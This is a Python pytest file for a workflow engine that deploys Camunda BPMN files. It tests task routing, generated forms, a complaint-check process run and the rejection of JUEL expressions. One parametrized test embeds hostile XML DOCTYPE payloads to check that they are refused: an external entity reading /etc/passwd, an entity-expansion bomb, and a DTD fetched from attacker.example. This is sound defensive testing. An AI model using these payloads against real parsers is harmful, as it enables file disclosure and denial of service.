"""BPMN saved by Camunda Modeler 7: routing, generated forms, a full run, JUEL refused, hostile files refused."""
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from app.engine import service
from app.engine.deploy import deploy_files
from app.engine.errors import DeployError
from app.engine.models import HumanTask, ProcessDefinition
from app.formdefs.schema import validate_submission
from app.formdefs.task_forms import form_for_task
from app.seed.reference import unit_by_code

FIXTURES = Path(__file__).parent / "fixtures" / "camunda"


def fixture_bytes(name):
    return (FIXTURES / name).read_bytes()


def ready(db, case_id):
    stmt = select(HumanTask).where(HumanTask.case_id == case_id, HumanTask.status == "ready").order_by(HumanTask.id)
    return list(db.scalars(stmt))


@pytest.fixture()
def deployed(db_session):
    [result] = deploy_files({"complaint_check.bpmn": fixture_bytes("complaint_check.bpmn")})
    return result


def test_deploys_as_camunda_dialect(db_session, deployed):
    definition = db_session.get(ProcessDefinition, deployed.definition_id)
    assert (deployed.key, deployed.version, definition.dialect) == ("complaint_check", 1, "camunda")
    assert definition.name == "投诉举报核查"
    register = definition.meta["user_tasks"]["Task_register"]
    assert register["department"] == "quality_supervision" and register["orgLevel"] == "county"


def test_routed_to_candidate_group_with_due_date_and_generated_form(db_session, deployed, make_case):
    case = make_case("complaint_check", org_code="350121")
    [task] = ready(db_session, case.id)
    assert (task.title, task.department_code, task.org_unit_id) == ("登记核查", "quality_supervision",
                                                                     unit_by_code("350121").id)
    # camunda:dueDate 2026-12-31T17:00:00 has no zone: read as Beijing time.
    assert task.due_at == datetime(2026, 12, 31, 9, 0, tzinfo=UTC)
    form = form_for_task(task)
    by_name = {f.name: f for f in form.fields}
    assert list(by_name) == ["complainant", "productCount", "channel", "receivedOn", "substantiated", "caseSource"]
    assert (by_name["complainant"].type, by_name["complainant"].required, by_name["complainant"].max_length) == \
        ("text", True, 20)
    assert (by_name["productCount"].type, by_name["productCount"].default) == ("integer", 1)
    assert [o.value for o in by_name["channel"].options] == ["hotline", "web", "letter"]
    assert by_name["channel"].options[0].label == "12315 热线"
    assert by_name["receivedOn"].type == "date" and by_name["substantiated"].type == "boolean"
    assert by_name["caseSource"].readonly and by_name["caseSource"].default == "TS-2026"


def test_generated_form_validates_required_enum_maxlength_and_readonly(db_session, deployed, make_case):
    case = make_case("complaint_check")
    form = form_for_task(ready(db_session, case.id)[0])
    _clean, errors = validate_submission(form, {})
    assert set(errors) == {"complainant", "receivedOn"} and errors["complainant"] == ["必填项"]
    clean, errors = validate_submission(form, {"complainant": "王" * 21, "channel": "fax", "receivedOn": "2026-11-01",
                                               "productCount": "abc", "caseSource": "伪造"})
    assert set(errors) == {"complainant", "channel", "productCount"}
    assert "20" in errors["complainant"][0]
    clean, errors = validate_submission(form, {"complainant": "王某", "channel": "web", "receivedOn": "2026-11-01",
                                               "productCount": "3", "substantiated": "on", "caseSource": "伪造"})
    assert errors == {}
    assert clean["productCount"] == 3 and clean["substantiated"] is True and clean["channel"] == "web"
    assert clean.get("caseSource") != "伪造"  # a readonly field is never taken from the user


def test_runs_to_its_end_with_assignee(db_session, deployed, make_case, make_user):
    handler = make_user("350121", ["enforcement"], username="camunda_zhang")
    clerk = make_user("350121", ["quality_supervision"])
    case = make_case("complaint_check", org_code="350121")
    [register] = ready(db_session, case.id)
    clean, errors = validate_submission(form_for_task(register), {
        "complainant": "王某", "receivedOn": "2026-11-01", "productCount": "2", "substantiated": "on"})
    assert errors == {}
    service.complete_task(register.id, clerk, clean)

    [handle] = ready(db_session, case.id)
    assert (handle.spec_name, handle.department_code, handle.assignee_id) == ("Task_handle", "enforcement", handler.id)
    form = form_for_task(handle)
    assert validate_submission(form, {"remark": "x"})[1] == {"measure": ["必填项"]}
    assert "200" in validate_submission(form, {"measure": "penalty", "remark": "长" * 201})[1]["remark"][0]
    clean, errors = validate_submission(form, {"measure": "penalty", "remark": "立案查处"})
    assert errors == {}
    result = service.complete_task(handle.id, handler, clean)
    assert result.status == "completed" and case.status == "closed"
    assert case.facts.get("measure") == "penalty" and case.facts.get("complainant") == "王某"


def test_not_substantiated_takes_the_default_flow(db_session, deployed, make_case, make_user):
    case = make_case("complaint_check")
    [register] = ready(db_session, case.id)
    clean, _ = validate_submission(form_for_task(register), {"complainant": "李某", "receivedOn": "2026-11-02"})
    result = service.complete_task(register.id, make_user("350121", ["quality_supervision"]), clean)
    assert result.status == "completed" and ready(db_session, case.id) == []


def test_juel_is_reported_with_element_not_crashed_on(db_session):
    with pytest.raises(DeployError) as refused:
        deploy_files({"juel.bpmn": fixture_bytes("complaint_check_juel.bpmn")})
    problems = {p.element: p for p in refused.value.problems}
    assert "JUEL" in problems["Flow_yes"].message and "${substantiated}" in problems["Flow_yes"].message
    assert "JUEL" in problems["Task_register"].message and "camunda:dueDate" in problems["Task_register"].message
    assert problems["Flow_yes"].line == 24 and problems["Flow_yes"].file == "juel.bpmn"
    assert db_session.scalar(select(ProcessDefinition).where(ProcessDefinition.key == "complaint_check_juel")) is None


def _with_doctype(doctype):
    text = fixture_bytes("complaint_check.bpmn").decode("utf-8")
    head, rest = text.split("\n", 1)
    return (head + "\n" + doctype + "\n" + rest.replace('name="登记核查"', 'name="&x;"')).encode("utf-8")


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE bpmn:definitions [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE bpmn:definitions [<!ENTITY a "哈哈哈哈哈哈哈哈"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE bpmn:definitions SYSTEM "http://attacker.example/evil.dtd">',
])
def test_hostile_camunda_files_refused(db_session, doctype):
    with pytest.raises(DeployError) as refused:
        deploy_files({"evil.bpmn": _with_doctype(doctype)})
    [problem] = refused.value.problems
    assert problem.file == "evil.bpmn" and "<!DOCTYPE>" in problem.message
    assert "root:" not in str(refused.value.to_dict())  # nothing of the entity target leaks back
    assert db_session.scalar(select(ProcessDefinition).where(ProcessDefinition.key == "complaint_check")) is None


def test_oversized_camunda_file_refused(db_session, app):
    limit = app.config["MAX_BPMN_BYTES"]
    data = fixture_bytes("complaint_check.bpmn").replace(b"</bpmn:definitions>",
                                                        b"<!--" + b"x" * limit + b"--></bpmn:definitions>")
    with pytest.raises(DeployError) as refused:
        deploy_files({"big.bpmn": data})
    [problem] = refused.value.problems
    assert problem.file == "big.bpmn" and "文件过大" in problem.message
    assert db_session.scalar(select(ProcessDefinition).where(ProcessDefinition.key == "complaint_check")) is None


def test_juel_assignee_is_reported_not_taken_as_a_user_name(db_session):
    text = fixture_bytes("complaint_check.bpmn").decode("utf-8").replace(
        'camunda:assignee="camunda_zhang"', 'camunda:assignee="#{initiator}"')
    with pytest.raises(DeployError) as refused:
        deploy_files({"juel_assignee.bpmn": text.encode("utf-8")})
    [problem] = [p for p in refused.value.problems if p.element == "Task_handle"]
    assert "JUEL" in problem.message and "camunda:assignee" in problem.message
